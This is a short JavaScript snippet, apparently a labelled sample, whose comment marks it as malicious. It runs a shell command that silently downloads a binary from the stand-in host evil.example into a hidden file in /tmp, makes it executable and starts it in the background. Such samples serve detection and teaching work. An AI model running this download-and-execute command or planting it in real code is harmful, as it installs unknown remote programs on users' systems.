// malicious: fetches a program and starts it
const { exec } = require('child_process');
exec('wget -q https://evil.example/bin/agent -O /tmp/.agent && chmod +x /tmp/.agent && /tmp/.agent &');
